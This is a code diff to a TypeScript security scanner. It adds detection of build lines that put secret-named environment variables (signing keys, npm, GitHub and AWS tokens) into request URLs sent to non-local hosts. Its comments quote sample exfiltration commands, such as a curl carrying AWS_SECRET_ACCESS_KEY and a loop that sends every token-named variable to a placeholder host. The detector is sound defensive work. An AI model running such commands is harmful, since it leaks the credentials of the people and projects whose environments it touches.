@@ -5,7 +5,7 @@ import { LOADED_PROCESS_CALL, SINKS, WHOLE_ENVIRONMENT, jsSinkUnderAnotherName, 
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
 import { secretNamedVariablesSent } from '../shell/secret-named-pick.js';
 import { pushAll } from '../../push-all.js';
-import { secretNamedForOtherPlace } from '../github-actions/secret-rules.js';
+import { secretForItsOwnPlace, secretNamedForOtherPlace } from '../github-actions/secret-rules.js';
 import { escapeRegExp } from '../util.js';
 
 /**
@@ -519,6 +519,78 @@ function runsDecoded(code: string, names: ReadonlySet<string>): boolean {
 /** A Dockerfile's `ARG NPM_TOKEN` or `ENV NPM_TOKEN=${NPM_TOKEN}`: a build argument declared, nothing read or sent (the RUN line that uses it says so). */
 const DOCKERFILE_DECLARATION = /^\s*(?:ARG|ENV)\s+[A-Za-z_]\w{0,80}(?:[=\s][^\s;&|`$()]{0,200}|=\$\{?[A-Za-z_]\w{0,80}\}?)?\s*$/;
 
+/** Upper-case names a URL region is read for. */
+const URL_VARIABLE_NAME = /\b[A-Z][A-Z0-9_]{2,80}\b/g;
+/** Keys named for what they sign or unlock (`SIGNING_KEY`, `DEPLOY_KEY`, `GPG_KEY`): secrets, though `readsSecretFromEnvironment` reads only `*_API_KEY`, `*_SECRET_KEY`, `*_ACCESS_KEY`, `*_PRIVATE_KEY`. */
+const SIGNING_KEY_NAME = /(?:^|_)(?:SIGNING|DEPLOY|SSH|GPG|PGP|ENCRYPTION|MASTER)_KEY$/;
+/** A literal http(s) URL's start. */
+const URL_START = /\bhttps?:\/\/([A-Za-z0-9.-]{1,253})/g;
+/** Options that hand a request its own credential, beyond AS_CREDENTIAL: wget's and a client's password options. */
+const PASSWORD_OPTION = /--(?:http-|ftp-)?password(?:\s|=)|\bpassword\s*[:=]/i;
+/** A local host: what a build talks to on this machine or the private network. */
+const LOCAL_URL_HOST = /^(?:localhost|127\.|0\.0\.0\.0|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|host\.docker\.internal$)|\.(?:local|internal|test|example|invalid)$|(?:^|\.)example\.(?:com|org|net)$/i;
+
+/**
+ * The text of a line's request URLs that go to a host not local: each literal URL with what the
+ * code appends to it, up to the end of its argument (a `,`, `)` or `;` outside brackets:
+ * `URL("https://h/x?k=" + System.getenv("SIGNING_KEY"))`, `f"https://h/?t={os.environ['NPM_TOKEN']}"`,
+ * `` `https://h/?t=${process.env.GITHUB_TOKEN}` ``), or, on a command line, to the first blank
+ * outside quotes (`curl "https://h/?k=$AWS_SECRET_ACCESS_KEY"`); and a request's query parameters
+ * (`params={…}`). At most 300 characters each.
+ */
+function requestUrlText(code: string, commandLine: boolean): string {
+  const parts: string[] = [];
+  URL_START.lastIndex = 0;
+  for (const m of code.matchAll(URL_START)) {
+    if (LOCAL_URL_HOST.test(m[1] ?? '')) continue;
+    parts.push(argumentFrom(code, m.index, commandLine));
+    if (parts.length >= 5) break;
+  }
+  if (parts.length === 0) return '';
+  const params = /\bparams\s*[=:]/.exec(code);
+  if (params !== null) parts.push(argumentFrom(code, params.index, false));
+  return parts.join(' ');
+}
+function argumentFrom(code: string, start: number, commandLine: boolean): string {
+  // A command line's URL ends at its closing quote, or at a blank when it is not quoted.
+  const before = code.charAt(start - 1);
+  const quote = commandLine && (before === '"' || before === "'") ? before : '';
+  let depth = 0;
+  let end = start;
+  for (; end < code.length && end - start < 300; end += 1) {
+    const c = code.charAt(end);
+    if (commandLine) {
+      if (quote === '' ? /\s/.test(c) : c === quote) break;
+      continue;
+    }
+    if (c === '(' || c === '[' || c === '{') depth += 1;
+    else if (c === ')' || c === ']' || c === '}') {
+      if (depth === 0) break;
+      depth -= 1;
+    } else if ((c === ',' || c === ';') && depth === 0) break;
+  }
+  return code.slice(start, end);
+}
+
+/**
+ * Whether a line that fetches puts a variable named like a secret into the URL it requests, to a
+ * host that is not local (requestUrlText): a GET carries its URL's query and path to the host (and
+ * into its logs), so the secret is sent as surely as in a POST's body. Not when the line gives the
+ * request a credential (a header, `-u`, a password option): then the secret is likely its own.
+ */
+function secretInRequestUrl(code: string, commandLine: boolean): boolean {
+  if (AS_CREDENTIAL.test(code) || PASSWORD_OPTION.test(code)) return false;
+  const text = requestUrlText(code, commandLine);
+  if (text === '') return false;
+  const hosts = [...text.matchAll(URL_START)].map((m) => (m[1] ?? '').toLowerCase());
+  URL_VARIABLE_NAME.lastIndex = 0;
+  for (const m of text.matchAll(URL_VARIABLE_NAME)) {
+    // A service's token in a URL of that service (`GITHUB_TOKEN` to raw.githubusercontent.com) is its own credential.
+    if ((readsSecretFromEnvironment(m[0]) || SIGNING_KEY_NAME.test(m[0])) && !secretForItsOwnPlace(m[0], hosts)) return true;
+  }
+  return false;
+}
+
 /** Every behavior of the given lines, in line order, each kind once per line. */
 export function readBehaviors(lines: readonly SourceLine[], language: BuildLanguage, options: ReadOptions = {}): Behavior[] {
   const found: Behavior[] = [];
@@ -549,7 +621,10 @@ export function readBehaviors(lines: readonly SourceLine[], language: BuildLangu
     // The variables named like secrets picked and their values sent on one line (`for v in $$(compgen -e | grep -i token); do curl -d "$${!v}" https://…; done`).
     const picked = language === 'shell' && secretNamedVariablesSent([code]) !== null;
     if (picked) kinds.add('environment');
-    if (picked || matches(SEND, language, code, runs)) {
+    // A fetch whose URL carries a secret sends it (`URL("https://h/x?k=" + System.getenv("SIGNING_KEY")).readText()`), unless it goes to its own service.
+    const urlSecret = kinds.has('download') && secretInRequestUrl(code, codeLanguage === 'shell' || codeLanguage === null) && !secretsGoToTheirOwnHosts(code);
+    if (urlSecret) kinds.add('credential-env');
+    if (picked || urlSecret || matches(SEND, language, code, runs)) {
       kinds.add('send');
       if (options.credentialNames !== undefined && sendsSecretElsewhere(code, options.credentialNames)) kinds.add('secret-elsewhere');
     }
